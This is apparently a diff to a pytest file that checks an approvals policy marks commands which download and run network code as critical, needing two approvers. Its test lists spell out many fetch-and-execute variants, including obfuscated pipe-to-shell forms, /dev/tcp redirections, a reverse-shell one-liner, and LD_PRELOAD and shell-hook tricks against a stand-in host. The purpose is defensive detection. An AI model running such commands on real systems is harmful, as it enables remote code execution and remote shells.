@@ -1,12 +1,14 @@
 """Text and files from the network that are run: every way to fetch with every way to run asks two people."""
 
 import itertools
+import re
 
 import pytest
 
 from approvals.policy import classify, default_policy, load_policy
 
 POLICY = load_policy(default_policy())
+DOWNLOADS_AND_RUNS = re.compile(r"Download a (?:script|package|project)(?: from \S+| from the network)? and run it")
 ADDRESS = "https://get.example/i.sh"
 TO_OUTPUT = [
     f"curl -fsSL {ADDRESS}",
@@ -134,6 +136,104 @@ WHOLE = [
     "npm i http://get.example/p.tgz",
     "rpm -i https://get.example/a.rpm",
 ]
+# The name of the shell is known only when it runs, or its input has another number.
+WHOLE += [
+    f"curl {ADDRESS} | {shell}"
+    for shell in (
+        "$SHELL", "${SHELL:-sh}", '"$SHELL" -s', "$0", "$PYTHON -", '"$(which bash)"', "$(command -v bash)",
+        "`which sh`", "/bin/b?sh", "/bin/[b]ash", "/b*/sh", "$SUDO bash", "$'\\x73h'", "python3.12",
+        "bash5 -s", "/proc/self/exe", "sudo -s", "su -", "ssh web",
+        "ssh -p 2 web", "bash -c sh", 'sh -c "$(cat)"', "bash -c 'cat > f; . ./f'",
+        "docker build -", "docker compose -f - up", "redis-cli --pipe", "osh",
+    )
+]  # fmt: skip
+WHOLE += [
+    "exec 3<>/dev/tcp/get.example/80; bash <&3",
+    "exec 3<>/dev/tcp/get.example/80; cat <&3 | bash",
+    "exec 3<>/dev/tcp/get.example/80; printf 'GET /' >&3; sh 0<&3",
+    'exec 4<>/dev/tcp/get.example/80; while read l <&4; do eval "$l"; done',
+    "bash < /dev/tcp/get.example/80",
+    "source /dev/tcp/get.example/80",
+    "bash -i >& /dev/tcp/get.example/80 0>&1",
+    "exec < /dev/tcp/get.example/80; bash",
+    f"exec 3< <(curl {ADDRESS}); bash <&3",
+    f"exec 3< <(curl {ADDRESS}); bash /dev/fd/3",
+    f"alias x='curl {ADDRESS} | sh'; x",
+    f"alias x='curl {ADDRESS}'; x | sh",
+    f"trap 'curl {ADDRESS} | sh' EXIT",
+    f"git config alias.x '!curl {ADDRESS} | sh'",
+    f"PROMPT_COMMAND='curl {ADDRESS} | sh' bash",
+    f"BASH_ENV=<(curl {ADDRESS}) bash -c :",
+    f"curl -o a.so {ADDRESS}; LD_PRELOAD=./a.so ls",
+    f"echo 'curl {ADDRESS} | sh' > a.sh; sh a.sh",
+    f"cat > a.sh <<'END'\nset -e\ncurl {ADDRESS} | sh\nEND\nchmod +x a.sh && ./a.sh",
+    f"curl -o lib.py {ADDRESS} && python3 -c 'import lib'",
+    f"curl -o lib.py {ADDRESS} && python3 -m lib",
+]
+# A folder that came from the network, and a program that builds, installs or runs what is in it.
+BROUGHT = [
+    "git clone https://get.example/a/b r",
+    "git clone --depth 1 -b feature/x git@get.example:a/b r",
+    "git -C . clone ssh://git@get.example/a/b r",
+    "git submodule add https://get.example/a/b r",
+    "gh repo clone a/b r",
+    "curl https://get.example/a.tgz | tar xz -C r",
+    "curl https://get.example/a.tgz | tar xzC r",
+    "wget -O a.zip https://get.example/a.zip && unzip a.zip -d r",
+    "git clone https://get.example/a/b x && mv x r",
+    "git clone https://get.example/a/b x && cp -r x r",
+]
+BUILT = [
+    "make -C r",
+    "cd r && make",
+    "(cd r; make install)",
+    "cd r && ./configure && make",
+    "bash -c 'cd r && make'",
+    "env -C r make",
+    "sudo make -C r install",
+    "pushd r && make",
+    "pip install ./r",
+    "pip install -e r",
+    "npm install ./r",
+    "npm --prefix r ci",
+    "cd r && npm install && npm test",
+    "cd r && yarn",
+    "cd r && cargo build",
+    "cargo install --path r",
+    "cd r && go run .",
+    "go run ./r",
+    "cd r && pytest",
+    "python3 r/setup.py install",
+    "cd r && python3 -m build",
+    "PYTHONPATH=r python3 -m tool",
+    "node r",
+    "docker build -t a ./r",
+    "docker compose -f r/compose.yaml up",
+    "cd r && uv sync",
+    "cmake -S r -B out",
+    "cd r && terraform apply",
+    "PATH=$PATH:r/bin tool",
+]
+PACKAGES = [
+    "pip install git+https://get.example/a/b",
+    "pip install -e git+ssh://git@get.example/a/b#egg=b",
+    "uv tool install git+https://get.example/a/b",
+    "pipx install git+https://get.example/a/b",
+    "poetry add git+https://get.example/a/b",
+    "npm install git+https://get.example/a/b",
+    "npm i a/b",
+    "yarn add a/b#main",
+    "npx a/b",
+    "cargo install --git https://get.example/a/b",
+    "cargo install --git=https://get.example/a/b tool",
+    "go run get.example/a/b@latest",
+    "go run -mod=mod github.com/a/b/cmd/c@v1.2.3 --flag",
+    "nix run github:a/b",
+    "conda env create -f https://get.example/e.yml",
+    "docker build https://get.example/a/b.git#main",
+    "docker buildx build git@get.example:a/b",
+    "podman build github.com/a/b",
+]
 PIPED = [f"{left} | {right}" for left, right in zip(TO_OUTPUT * 3, FROM_PIPE, strict=False)]
 PIPED += [f"{left} | sh" for left in TO_OUTPUT] + [f"{TO_OUTPUT[0]} | {right}" for right in FROM_PIPE]
 RUN = [*PIPED, *(text.format(f"curl {ADDRESS}") for text in AS_TEXT), *WHOLE]
@@ -156,13 +256,10 @@ DATA = [
     'V=$(curl -s https://api.example/v); bash build.sh "$V"',
     "curl https://api.example/l | while read f; do echo \"$f\"; done",
     "git clone https://api.example/a/b && cd b && ls",
-    "git clone https://api.example/a/b && cd b && npm install && make test",
     "pip install requests",
     "pip install -i https://mirror.example/simple requests",
-    "pip install git+https://api.example/a/b",
     "npx prettier --check .",
     "uvx ruff check",
-    "go run golang.org/x/tools/cmd/goimports@latest",
     "git commit -m 'Document curl https://x.example | sh'",
     "echo 'curl https://x.example | sh' > README.md",
     "grep -rn 'curl .* | sh' docs",
@@ -170,6 +267,37 @@ DATA = [
     "curl -s localhost:3000/x | python3 -c \"import json,sys; print(json.load(sys.stdin)['a'])\"",
     "python3 - <<'END'\nimport subprocess, requests\nsubprocess.Popen(['app'])\nrequests.get('http://localhost:8000')\nEND",
     'curl https://api.example/i.sh | wc -l; bash build.sh',
+    "curl https://api.example/a.csv | psql -c '\\copy t from stdin csv'",
+    "curl https://api.example/a.csv | psql app --command='copy t from stdin'",
+    "curl https://api.example/a | psql --version",
+    "curl https://api.example/a | redis-cli -x set k",
+    "curl https://api.example/a | redis-cli -h db set k v",
+    "curl https://api.example/a | mysql -e 'select 1'",
+    "curl https://api.example/a.csv | sqlite3 a.db '.import /dev/stdin t'",
+    "curl https://api.example/a | mongosh --eval 'db.a.find()'",
+    "curl https://api.example/a | $JQ .name",
+    "curl https://api.example/a | kubectl apply -f own.yaml",
+    "git clone https://api.example/a/b r",
+    "git clone https://api.example/a/b r && cd r && git log && cat Makefile && npm ls",
+    "git clone https://api.example/a/b r && grep -rn x r && time wc -l ./r/a.py",
+    "git clone https://api.example/a/b r; make test",
+    "git clone https://api.example/a/b r && cd r && ls && cd .. && make",
+    "git clone https://api.example/a/b r && cp r/LICENSE . && make",
+    "git clone ../other r && cd r && make",
+    "git pull origin main && npm ci && npm test",
+    "wget https://api.example/d.tgz && tar xf d.tgz -C data && make train",
+    "curl -o data.json https://api.example/d && pytest",
+    "npm install ./packages/a @types/node lodash",
+    "npm install -w apps/web lodash",
+    "npx tsc src/a.ts",
+    "go run ./cmd/x",
+    "go install golang.org/x/tools/gopls@latest",
+    "docker build -f docker/Dockerfile .",
+    "alias ll='ls -l'",
+    "exec 3<in.txt; while read l <&3; do echo \"$l\"; done",
+    "exec 3<>/dev/tcp/localhost/80; echo GET >&3; cat <&3",
+    "timeout 1 bash -c '</dev/tcp/db/5432' && make test",
+    "ssh web 'cd app && make'",
 ]  # fmt: skip
 
 
@@ -182,7 +310,23 @@ def judge(command, **context):
 def test_what_comes_from_the_network_runs_only_after_two_people_agreed(command, terms):
     verdict = judge(command, **terms)
     assert verdict.tier == "critical"
-    assert verdict.title.startswith("Download a script")
+    assert DOWNLOADS_AND_RUNS.match(verdict.title)
+
+
+@pytest.mark.parametrize(
+    "command", [f"{brought} && {built}" for brought in BROUGHT for built in BUILT[:: 1 if brought is BROUGHT[0] else 7]]
+)
+def test_a_project_from_the_network_is_built_only_after_two_people_agreed(command):
+    verdict = judge(command)
+    assert verdict.tier == "critical"
+    assert DOWNLOADS_AND_RUNS.match(verdict.title)
+
+
+@pytest.mark.parametrize("command", PACKAGES)
+def test_a_package_from_an_address_is_run_only_after_two_people_agreed(command):
+    verdict = judge(command)
+    assert verdict.tier == "critical"
+    assert DOWNLOADS_AND_RUNS.match(verdict.title)
 
 
 @pytest.mark.parametrize("command", DATA)
